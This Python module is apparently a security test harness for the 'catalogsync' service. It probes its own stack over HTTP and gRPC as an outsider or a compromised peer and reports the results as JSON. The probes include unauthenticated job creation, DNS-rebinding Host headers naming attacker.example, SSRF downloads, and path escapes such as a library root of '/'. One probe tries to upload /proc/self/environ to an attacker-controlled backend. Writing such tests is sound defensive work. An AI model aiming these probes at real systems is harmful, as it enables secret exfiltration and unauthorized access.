"""``python -m tests.support.attacker --target IP --ports JSON --listen IP --library-root PATH
[--token T]``: attack a stack from another host (network namespace) and print what each attempt
got, as one JSON object.

Without a token it is an outsider; with the service token it plays a compromised peer that
still must not exceed the workers' authority. A listener of its own records whether any
worker sent it anything.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Any

import grpc
import httpx

from catalogsync.grpc_clients import open_sync_channel
from catalogsync.service_auth import ClientTokens
from catalogsync.v1 import (
    collector_pb2,
    collector_pb2_grpc,
    common_pb2,
    downloader_pb2,
    downloader_pb2_grpc,
    resolver_pb2,
    resolver_pb2_grpc,
    scheduler_pb2,
    scheduler_pb2_grpc,
    uploader_pb2,
    uploader_pb2_grpc,
)
from tests.support.listener import Listener


def _code(call: Any) -> str:
    """``OK``, ``FAILED <kind>: <message>`` (a stream ending in a failure) or ``<CODE>: <details>``."""
    try:
        result = call()
        if hasattr(result, "ListFields"):
            return "OK"
        events = list(result)
    except grpc.RpcError as exc:
        return f"{exc.code().name}: {exc.details()}"
    failures = [e.failure for e in events if e.HasField("failure")]
    if failures:
        return f"FAILED {common_pb2.FailureKind.Name(failures[0].kind)}: {failures[0].message}"
    return "OK (stream)"


def console_attacks(ip: str, port: int) -> dict[str, Any]:
    base = f"http://{ip}:{port}"
    job = {"job_type": "collect_only", "sources": ["netease"]}
    with httpx.Client(base_url=base, timeout=10) as http:
        return {
            "create_job": http.post("/api/jobs", json=job).status_code,
            "cancel_job": http.post("/api/jobs/1/commands", json={"command": "cancel"}).status_code,
            "wrong_bearer": http.post(
                "/api/jobs", json=job, headers={"Authorization": "Bearer x"}
            ).status_code,
            "dashboard": http.get("/api/dashboard").status_code,
            "rebinding": http.get("/api/dashboard", headers={"Host": "attacker.example"}).status_code,
            "rebinding_login": http.get("/login", headers={"Host": "attacker.example"}).status_code,
        }


def grpc_attacks(
    ip: str, ports: dict[str, int], tokens: ClientTokens, listener: Listener, library_root: str
) -> dict[str, str]:
    def stub(kind: Any, service: str) -> Any:
        return kind(open_sync_channel(f"{ip}:{ports[service]}", tokens))

    scheduler = stub(scheduler_pb2_grpc.SchedulerServiceStub, "scheduler")
    uploader = stub(uploader_pb2_grpc.UploaderServiceStub, "uploader")
    downloader = stub(downloader_pb2_grpc.DownloaderServiceStub, "downloader")
    collector = stub(collector_pb2_grpc.CollectorServiceStub, "collector")
    resolver = stub(resolver_pb2_grpc.ResolverServiceStub, "resolver")
    outside = uploader_pb2.ObjectBackend(
        name="loot", bucket="loot", endpoint=listener.url, credential_env_prefix="CATALOGSYNC_EMBEDDED_S3"
    )
    candidate = common_pb2.Candidate(
        source="kuwo", remote_id="1", media_url=f"{listener.url}/internal.mp3", ext="mp3"
    )
    backend = scheduler_pb2.RegisterObjectBackendRequest(
        name="loot",
        bucket="loot",
        endpoint=listener.url,
        credential_env_prefix="CATALOGSYNC_EMBEDDED_S3",
        make_default=True,
    )
    job = scheduler_pb2.CreateJobRequest(
        job_type="collect_only", scope=scheduler_pb2.JobScope(sources=["qq"])
    )
    return {
        "scheduler_create_job": _code(lambda: scheduler.CreateJob(job, timeout=20)),
        "scheduler_cancel": _code(
            lambda: scheduler.SendCommand(
                scheduler_pb2.SendCommandRequest(job_id=1, command="cancel"), timeout=20
            )
        ),
        "register_backend": _code(lambda: scheduler.RegisterObjectBackend(backend, timeout=20)),
        "set_library_root": _code(
            lambda: scheduler.SetLibraryRoot(scheduler_pb2.SetLibraryRootRequest(root_path="/"), timeout=20)
        ),
        "collector": _code(
            lambda: collector.ParsePlaylistUrls(collector_pb2.ParsePlaylistUrlsRequest(text="x"), timeout=20)
        ),
        "resolver": _code(lambda: resolver.Resolve(resolver_pb2.ResolveRequest(), timeout=20)),
        "upload_environ": _code(
            lambda: uploader.Upload(
                uploader_pb2.UploadRequest(local_path="/proc/self/environ", backend=outside, key="env"),
                timeout=20,
            )
        ),
        "download_outside_roots": _code(
            lambda: downloader.Download(
                downloader_pb2.DownloadRequest(
                    candidate=common_pb2.Candidate(
                        source="kuwo", remote_id="1", media_url="https://er.sycdn.kuwo.cn/1.mp3", ext="mp3"
                    ),
                    library_root="/tmp/catalogsync-attack/library",
                    layout="platform_first_artist",
                ),
                timeout=20,
            )
        ),
        "export_anywhere": _code(
            lambda: downloader.WritePlaylistExport(
                downloader_pb2.PlaylistExportRequest(
                    library_root="/tmp/catalogsync-attack/export", platform="qq", name="x"
                ),
                timeout=20,
            )
        ),
        "download_internal_url": _code(
            lambda: downloader.Download(
                downloader_pb2.DownloadRequest(
                    candidate=candidate, library_root=library_root, layout="platform_first_artist"
                ),
                timeout=20,
            )
        ),
    }


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--ports", required=True, type=json.loads)
    parser.add_argument("--listen", required=True)
    parser.add_argument("--library-root", required=True)
    parser.add_argument("--token", default="")
    args = parser.parse_args()
    tokens = ClientTokens(args.token)
    with Listener(args.listen) as listener:
        report: dict[str, Any] = {
            "grpc": grpc_attacks(args.target, args.ports, tokens, listener, args.library_root)
        }
        if not tokens.service_token:
            report["console"] = console_attacks(args.target, args.ports["gateway"])
    report["listener"] = {"connections": listener.connections, "received": len(listener.received)}
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
